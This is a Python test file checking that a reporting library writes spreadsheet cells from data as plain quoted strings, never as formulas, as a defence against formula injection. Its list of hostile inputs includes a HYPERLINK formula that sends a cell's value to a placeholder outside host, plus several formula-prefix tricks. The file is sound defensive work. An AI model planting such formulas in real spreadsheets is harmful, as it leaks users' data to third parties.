"""Workbooks never turn values from data into formulas (OWASP formula injection)."""

from __future__ import annotations

import io
from datetime import datetime
from zipfile import ZipFile

from openpyxl import Workbook, load_workbook

from itss_warehouse.reports.xlsx import LOCAL_TIMEZONE, Formatted, add_table_sheet, workbook_bytes

HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def formulas_in(data: bytes) -> list[str]:
    """Every <f> element of the workbook's sheets, as the raw XML has it."""
    with ZipFile(io.BytesIO(data)) as archive:
        return [
            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_text_from_data_is_written_as_a_string_never_a_formula():
    workbook = Workbook()
    workbook.remove(workbook.active)
    rows = [
        [value, 3, Formatted(0.75, "0.0%"), datetime(2026, 10, 5, 9, 30, tzinfo=LOCAL_TIMEZONE)] for value in HOSTILE
    ]
    add_table_sheet(workbook, "data", ["=header", "count", "rate", "opened"], rows)
    data = workbook_bytes(workbook, datetime(2026, 11, 1))
    assert formulas_in(data) == []
    sheet = load_workbook(io.BytesIO(data))["data"]
    # As written; XML reads a carriage return back as a line feed (openpyxl writes it unescaped).
    assert [cell.value for cell in sheet["A"]] == ["=header", *(value.replace("\r", "\n") for value in HOSTILE)]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in sheet["A"])
    assert [(cell.value, cell.data_type) for cell in sheet[2][1:3]] == [(3, "n"), (0.75, "n")]
    assert sheet["C2"].number_format == "0.0%" and sheet["D2"].value == datetime(2026, 10, 5, 9, 30)
    assert not sheet["B2"].quotePrefix
